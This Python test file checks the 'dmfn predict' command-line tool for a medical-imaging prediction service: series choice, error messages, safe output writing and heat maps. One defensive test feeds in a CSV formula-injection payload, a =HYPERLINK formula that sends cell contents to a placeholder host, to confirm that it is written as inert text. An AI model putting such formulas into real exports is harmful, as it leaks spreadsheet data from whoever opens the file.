"""``dmfn predict`` input handling without a server: choosing a DICOM series and error wording.

The server is replaced by a stand-in (:class:`FakeClient`) that answers every study with the same
prediction and records the studies it got, so the loading and the messages can be checked alone.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import ClassVar

import numpy as np
import pytest
from pydicom.uid import generate_uid

from dmfn import predict_cli as predict_command
from dmfn.client import predict as P
from dmfn.client.io import write_dicom_series, write_nifti_mask, write_nifti_volume
from dmfn.client.sdk import Prediction
from dmfn.contract import schema as S
from dmfn.contract.predictions import Provenance
from dmfn.predict_cli import main as predict_main

SPACING = (2.5, 0.7, 0.8)
SHAPE = (5, 12, 14)
CTC = "ctc_level_pg_ml"


class FakeClient:
    """Stands in for :class:`dmfn.client.sdk.DmfnClient`; ``studies`` holds what was sent."""

    studies: ClassVar[list] = []

    def __init__(self, *args: object, **kwargs: object) -> None:
        FakeClient.studies = []

    def __enter__(self) -> FakeClient:
        return self

    def __exit__(self, *exc: object) -> None:
        return None

    @property
    def contract(self) -> object:
        return type(
            "Contract",
            (),
            {
                "ctc_features": (CTC,),
                "class_names": ("thymoma",),
                "provenance": Provenance(),
                "roi_margin_mm": 10.0,
            },
        )()

    def predict_many(self, studies: list, concurrency: int, return_exceptions: bool) -> list:
        FakeClient.studies += list(studies)
        return [self._answer(s.image_id) for s in studies]

    @staticmethod
    def _answer(image_id: str) -> Prediction:
        return Prediction(
            probs={"thymoma": 1.0},
            top3=(("thymoma", 1.0), ("lymphoma", 0.0), ("teratoma", 0.0)),
            malignant_prob=1.0,
            management="resection",
            measurements=dict.fromkeys(S.MEASUREMENT_FIELDS, 1.0),
            model_version="fake/1",
            image_id=image_id,
        )


@pytest.fixture
def fake_server(monkeypatch: pytest.MonkeyPatch) -> type[FakeClient]:
    monkeypatch.setattr(predict_command, "DmfnClient", FakeClient)
    return FakeClient


def _hu(seed: int) -> np.ndarray:
    return np.random.default_rng(seed).integers(-100, 200, SHAPE).astype(np.int16)


def _mask() -> np.ndarray:
    mask = np.zeros(SHAPE, np.uint8)
    mask[1:4, 3:8, 4:9] = 1
    return mask


@pytest.fixture
def two_series(tmp_path: Path) -> tuple[Path, Path, list[str]]:
    """A DICOM folder with two CT series of one patient on one grid, and their mask."""
    folder = tmp_path / "patient"
    uids = [generate_uid(), generate_uid()]
    for k, uid in enumerate(uids):
        write_dicom_series(_hu(k), SPACING, folder, series_uid=uid, series_number=k + 1)
    mask = write_nifti_mask(_mask(), SPACING, tmp_path / "mask.nii.gz")
    return folder, mask, uids


def _clinical() -> list[str]:
    return ["--ctc", "12.5", "--age", "54", "--sex", "F", "--location", "anterior"]


# --------------------------------------------------------------------------- --series-uid
def test_series_uid_chooses_the_series(
    fake_server: type[FakeClient], two_series: tuple, capsys: pytest.CaptureFixture[str]
) -> None:
    folder, mask, uids = two_series
    code = predict_main([str(folder), "--mask", str(mask), "--series-uid", uids[1], *_clinical()])
    assert code == P.EXIT_OK, capsys.readouterr().err
    (study,) = fake_server.studies
    assert study.image_id == uids[1]
    np.testing.assert_array_equal(study.hu, _hu(1))


def test_several_series_error_speaks_in_flags(
    fake_server: type[FakeClient], two_series: tuple, capsys: pytest.CaptureFixture[str]
) -> None:
    folder, mask, uids = two_series
    code = predict_main([str(folder), "--mask", str(mask), *_clinical()])
    err = capsys.readouterr().err
    assert code == P.EXIT_USAGE
    assert "--series-uid: required" in err and all(uid in err for uid in uids)
    assert "series_uid=" not in err and "argument '" not in err and "command line" not in err


def test_unknown_series_uid_is_named_as_the_flag(
    fake_server: type[FakeClient], two_series: tuple, capsys: pytest.CaptureFixture[str]
) -> None:
    folder, mask, _ = two_series
    code = predict_main([str(folder), "--mask", str(mask), "--series-uid", "1.2.3", *_clinical()])
    err = capsys.readouterr().err
    assert code == P.EXIT_USAGE and "--series-uid: 1.2.3 is not in" in err


def test_manifest_series_uid_column(
    fake_server: type[FakeClient], two_series: tuple, capsys: pytest.CaptureFixture[str]
) -> None:
    folder, _, uids = two_series
    manifest = folder.parent / "studies.csv"
    manifest.write_text(
        f"image_path,mask_path,series_uid,{CTC},age_years,sex,location\n"
        f"patient,mask.nii.gz,{uids[0]},12.5,54,F,anterior\n"
        f"patient,mask.nii.gz,,12.5,54,F,anterior\n"
    )
    code = predict_main(["--manifest", str(manifest), "--json"])
    captured = capsys.readouterr()
    assert code == P.EXIT_FAILED
    document = json.loads(captured.out)
    assert document[0]["image_id"] == uids[0]
    assert document[1]["error"].startswith(
        f"manifest {manifest} line 3: column 'series_uid': required"
    )
    np.testing.assert_array_equal(fake_server.studies[0].hu, _hu(0))


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        (["--manifest", "studies.csv", "--series-uid", "1.2.3"], "--series-uid"),
        (["ct.nii.gz", "--mask", "m.nii.gz", "--series-uid", "1.2.3"], "DICOM series folder"),
    ],
)
def test_series_uid_misuse_is_a_usage_error(
    fake_server: type[FakeClient],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    extra: list[str],
    message: str,
) -> None:
    monkeypatch.chdir(tmp_path)
    for name in ("ct.nii.gz", "m.nii.gz", "studies.csv"):
        (tmp_path / name).touch()
    args = extra if "--manifest" in extra else [*extra, *_clinical()]
    assert predict_main(args) == P.EXIT_USAGE
    err = capsys.readouterr().err
    assert "usage: dmfn predict" in err and message in err


def test_help_lists_series_uid(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        predict_main(["--help"])
    assert "--series-uid" in capsys.readouterr().out


# --------------------------------------------------------------------------- where errors come from
def test_file_content_errors_name_the_file_not_the_command_line(
    fake_server: type[FakeClient], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    image = tmp_path / "broken.nii.gz"
    image.write_bytes(b"not a nifti file")
    mask = write_nifti_mask(_mask(), SPACING, tmp_path / "mask.nii.gz")
    assert predict_main([str(image), "--mask", str(mask), *_clinical()]) == P.EXIT_USAGE
    err = capsys.readouterr().err
    assert "command line" not in err
    assert f"NIfTI file {image}: cannot be read" in err


def test_mask_errors_name_the_mask_file_or_its_flag(
    fake_server: type[FakeClient], two_series: tuple, capsys: pytest.CaptureFixture[str]
) -> None:
    folder, _, uids = two_series
    args = [str(folder), "--series-uid", uids[0], *_clinical()]
    short = write_nifti_mask(_mask()[:-1], SPACING, folder.parent / "short.nii.gz")
    assert predict_main([*args, "--mask", str(short)]) == P.EXIT_USAGE
    err = capsys.readouterr().err
    assert f"mask file {short}: its voxel grid is not the image's" in err
    assert "command line" not in err and "argument '" not in err
    labels = (_mask() * 3).astype(np.int16)
    labels[0, 0, 0] = 7
    several = write_nifti_volume(labels, SPACING, folder.parent / "labels.nii.gz")
    assert predict_main([*args, "--mask", str(several)]) == P.EXIT_USAGE
    err = capsys.readouterr().err
    assert "--segment: required: " in err and "several labels [3, 7]" in err
    assert predict_main([*args, "--mask", str(several), "--segment", "3"]) == P.EXIT_OK


def test_manifest_rows_keep_their_line(
    fake_server: type[FakeClient], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "broken.nii.gz").write_bytes(b"not a nifti file")
    write_nifti_mask(_mask(), SPACING, tmp_path / "mask.nii.gz")
    manifest = tmp_path / "studies.csv"
    manifest.write_text(
        f"image_path,mask_path,{CTC},age_years,sex,location\n"
        "broken.nii.gz,mask.nii.gz,12.5,54,F,anterior\n"
    )
    assert predict_main(["--manifest", str(manifest)]) == P.EXIT_USAGE
    err = capsys.readouterr().err
    assert f"manifest {manifest} line 2: NIfTI file {tmp_path / 'broken.nii.gz'}" in err


# --------------------------------------------------------------------------- --out
@pytest.fixture
def one_study(tmp_path: Path) -> list[str]:
    """The arguments of one NIfTI study."""
    image = write_nifti_volume(_hu(0), SPACING, tmp_path / "ct.nii.gz")
    mask = write_nifti_mask(_mask(), SPACING, tmp_path / "mask.nii.gz")
    return [str(image), "--mask", str(mask), *_clinical()]


def _leftovers(folder: Path) -> list[str]:
    """Temporary files a write left behind."""
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".tmp"))


def test_out_is_not_replaced_without_overwrite(
    fake_server: type[FakeClient],
    one_study: list[str],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    out = tmp_path / "predictions.csv"
    out.write_text("earlier results\n")
    assert predict_main([*one_study, "--out", str(out)]) == P.EXIT_USAGE
    last = capsys.readouterr().err.strip().splitlines()[-1]
    assert last == f"dmfn predict: error: --out: {out} exists; pass --overwrite to replace it"
    assert out.read_text() == "earlier results\n" and fake_server.studies == []  # no work done
    assert predict_main([*one_study, "--out", str(out), "--overwrite"]) == P.EXIT_OK
    assert out.read_text().startswith("level,patient_id,image_id,") and not _leftovers(tmp_path)


def test_out_that_appears_while_predicting_is_not_replaced(
    fake_server: type[FakeClient],
    one_study: list[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    out = tmp_path / "predictions.csv"
    answer = FakeClient.predict_many

    def predict_many(self: FakeClient, *args: object, **kwargs: object) -> list:
        out.write_text("another run's results\n")
        return answer(self, *args, **kwargs)

    monkeypatch.setattr(FakeClient, "predict_many", predict_many)
    assert predict_main([*one_study, "--out", str(out)]) == P.EXIT_USAGE
    err = capsys.readouterr().err
    assert f"dmfn predict: --out: {out} exists; pass --overwrite to replace it" in err
    assert out.read_text() == "another run's results\n" and not _leftovers(tmp_path)


def test_a_failed_write_leaves_the_earlier_file_whole(
    fake_server: type[FakeClient],
    one_study: list[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from dmfn.contract import predictions

    out = tmp_path / "predictions.csv"
    out.write_text("earlier results\n")
    calls = iter(range(100))

    def failing(text: str) -> str:
        if next(calls) == 7:  # after the header and part of a row are written
            raise OSError(28, "No space left on device")
        return text

    monkeypatch.setattr(predictions, "escape_cell", failing)
    with pytest.raises(OSError, match="No space left"):
        predict_main([*one_study, "--out", str(out), "--overwrite"])
    assert out.read_text() == "earlier results\n" and not _leftovers(tmp_path)


def test_out_ids_that_look_like_formulas_are_written_as_text(
    fake_server: type[FakeClient], one_study: list[str], tmp_path: Path
) -> None:
    """An image_id of =HYPERLINK(...) must not become a live formula in a spreadsheet."""
    import csv

    from dmfn.contract.predictions import read_predictions

    hostile = '=HYPERLINK("http://example.invalid/?leak="&A1,"open")'
    manifest = tmp_path / "studies.csv"
    manifest.write_text(
        f"image_id,patient_id,image_path,mask_path,{CTC},age_years,sex,location\n"
        f'"{hostile.replace(chr(34), chr(34) * 2)}",@SUM(1),ct.nii.gz,mask.nii.gz,12.5,54,F,'
        "anterior\n"
    )
    out = tmp_path / "predictions.csv"
    assert predict_main(["--manifest", str(manifest), "--out", str(out)]) == P.EXIT_OK
    with out.open(newline="") as handle:
        image, patient = list(csv.DictReader(handle))
    assert image["image_id"] == "'" + hostile and image["patient_id"] == "'@SUM(1)"
    assert patient["patient_id"] == "'@SUM(1)" and image["malignant_prob"] == "1"
    table = read_predictions(out)
    assert [(r.patient_id, r.image_id) for r in table.rows] == [
        ("@SUM(1)", hostile),
        ("@SUM(1)", ""),
    ]


# --------------------------------------------------------------------------- --explain
def test_explain_writes_heat_maps_in_process_only(
    one_study: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from dmfn.resources import demo_checkpoint

    folder = tmp_path / "maps"
    args = [*one_study, "--checkpoint", str(demo_checkpoint()), "--explain", str(folder)]
    assert predict_main(args) == 0
    assert sorted(p.name for p in folder.iterdir()) == ["ct_cam.npy", "ct_views.png"]
    assert np.load(folder / "ct_cam.npy").shape[0] == 3
    capsys.readouterr()
    assert predict_main(args) == 2  # earlier maps are results too
    err = capsys.readouterr().err
    assert "--explain" in err and "--overwrite" in err
    assert predict_main([*args, "--overwrite"]) == 0
    url = ["--url", "127.0.0.1:9", "--explain", str(tmp_path / "x")]
    assert predict_main([*one_study, *url]) == 2
    err = capsys.readouterr().err
    assert "--explain: heat maps need gradients" in err and not (tmp_path / "x").exists()
